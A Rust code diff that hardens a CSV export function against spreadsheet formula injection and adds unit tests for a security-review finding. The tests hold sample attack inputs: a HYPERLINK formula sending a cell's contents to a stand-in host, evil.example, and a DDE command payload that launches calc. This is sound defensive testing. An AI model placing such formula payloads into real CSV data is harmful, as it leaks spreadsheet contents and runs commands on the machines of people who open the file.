@@ -102,12 +102,20 @@ pub async fn page(
     .into_response())
 }
 
-/// One CSV field, quoted when it must be (RFC 4180).
+/// One CSV field, quoted when it must be (RFC 4180). A field that a spreadsheet would
+/// read as a formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage return, or
+/// their full-width forms) gets a leading apostrophe, so it is shown as text (OWASP's
+/// advice on CSV injection).
 fn csv_field(s: &str) -> String {
+    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) {
+        format!("'{s}")
+    } else {
+        s.to_owned()
+    };
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_owned()
+        s
     }
 }
 
@@ -170,5 +178,22 @@ mod tests {
             "\"Østfold, Buskerud\""
         );
         assert_eq!(super::csv_field("a \"b\""), "\"a \"\"b\"\"\"");
+    }
+
+    /// F9 of the security review: a cycle name that a spreadsheet would run.
+    #[test]
+    fn csv_fields_that_look_like_formulas_are_text() {
+        assert_eq!(
+            super::csv_field("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Klikk her\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Klikk her\"\")\""
+        );
+        assert_eq!(
+            super::csv_field("+cmd|' /C calc'!A0"),
+            "'+cmd|' /C calc'!A0"
+        );
+        assert_eq!(super::csv_field("-2+3"), "'-2+3");
+        assert_eq!(super::csv_field("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(super::csv_field("＝1+1"), "'＝1+1");
+        assert_eq!(super::csv_field("2019-03-01"), "2019-03-01");
     }
 }
